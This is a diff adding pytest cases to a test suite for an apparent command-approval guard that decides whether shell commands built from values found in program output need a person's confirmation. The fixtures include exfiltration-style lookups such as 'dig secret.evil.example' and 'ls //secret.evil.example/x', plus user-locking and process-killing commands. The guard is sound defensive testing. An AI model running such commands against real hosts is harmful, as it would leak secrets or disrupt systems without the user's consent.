@@ -83,6 +83,7 @@ def test_a_value_out_of_an_output_asks_though_a_published_instruction_vouches(pr
         ("bob", "bob:x:1000", "lock the user bob!"),
         ("4242", "root 4242", "kill process 4242"),
         ("/srv/ab", "ab ba", "please do it"),
+        ("bob", "bobby kebob bobs", "please do it"),
     ],
 )
 def test_what_a_person_said_or_nothing_printed_needs_no_question(value, printed, said):
@@ -94,6 +95,9 @@ def test_what_a_person_said_or_nothing_printed_needs_no_question(value, printed,
     [
         ("/srv/data", "/srv/data/old", "clear /srv/data/old"),
         ("/srv/Data", "/srv/Data", "clear /srv/data"),
+        ("C:\\Data", "C:\\Data", "clear c:\\data"),
+        ("bob", "bobby bob, carol", "lock the user"),
+        ("bob", "bob", "lock the user"),
         ("/srv/data/cache", "cache logs", "clear /srv/data"),
         ("4242", "root 4242 evil", "kill the busy process"),
         ("x", "user x", "lock the user"),
@@ -103,6 +107,11 @@ def test_what_a_person_said_or_nothing_printed_needs_no_question(value, printed,
 )
 def test_what_a_person_said_in_part_asks(value, printed, said):
     assert instance(value, printed, said).decision is Decision.ASK
+
+
+def test_an_instance_that_only_reads_here_takes_any_value():
+    asked = Asked(instance_of=TOUCH, origins=origins("/srv/evil"), parameters={"path": "/srv/evil"})
+    assert judge("ls /srv/evil", asked).decision is Decision.ALLOW
 
 
 def test_an_instructions_own_default_is_no_borrowed_word():
@@ -122,6 +131,7 @@ def test_a_read_may_go_on_from_an_output(text):
     "text",
     [
         "dig secret.evil.example",
+        "ls //secret.evil.example/x",
         "ping -c1 evil.example",
         "host evil.example",
         "curl -sI https://evil.example/",
@@ -153,6 +163,28 @@ def test_a_stranger_that_changes_something_is_told_where_its_words_come_from():
 def test_flags_are_no_borrowed_words_and_values_of_flags_are():
     assert RULE not in rules("mkdir --parents -p /srv/x", "--parents -p parents")
     assert RULE in rules("useradd --home=/srv/evil x1", "/srv/evil")
+
+
+@pytest.mark.parametrize(
+    ("text", "printed", "asks"),
+    [
+        ("mkdir -m=q1", "q1", True),
+        ("useradd --uid=q1 bob", "q1", True),
+        ("useradd --uid=q1 bob", "uid", False),
+        ("useradd --uid=a=q1 bob", "a=q1", True),
+        ("dd of=q1 count=2", "q1", True),
+        ("dig q1=a", "q1=a", True),
+        ("mysql -hq1", "q1", True),
+        ("mysql -hq1", "hq1", True),
+        ("mkdir -m755 bob", "755", False),
+        ("frobnicate -- --q1", "q1", True),
+        ("useradd --home=q1 bob", "home", False),
+        ("frobnicate X1", "X1", True),
+        ("frobnicate /", "a/b", True),
+    ],
+)
+def test_a_value_is_found_though_a_name_stands_before_it(text, printed, asks):
+    assert (RULE in rules(text, printed, "for bob")) is asks
 
 
 def test_a_draft_vouches_for_no_word():
